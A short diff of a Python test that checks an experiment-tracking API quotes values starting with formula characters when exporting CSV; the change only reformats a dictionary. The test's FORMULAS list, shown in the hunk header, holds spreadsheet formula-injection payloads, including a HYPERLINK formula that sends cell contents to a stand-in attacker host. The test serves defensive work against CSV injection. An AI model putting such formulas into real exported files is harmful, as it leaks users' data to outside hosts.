@@ -11,7 +11,11 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+1+1", "
 
 
 def test_text_that_starts_a_formula_is_quoted_in_export_csv(client, settings):
-    spec = {"name": "=1+1", "base": {"dataset": "folder", "data_path": "data", "epochs": 2}, "sweep": {"data_path": FORMULAS, "lr": [-0.5 + 1]}}
+    spec = {
+        "name": "=1+1",
+        "base": {"dataset": "folder", "data_path": "data", "epochs": 2},
+        "sweep": {"data_path": FORMULAS, "lr": [-0.5 + 1]},
+    }
     exp = client.post("/api/v1/experiments", json=spec).json()
     runs = client.get(f"/api/v1/experiments/{exp['id']}/runs").json()
     for run in runs:
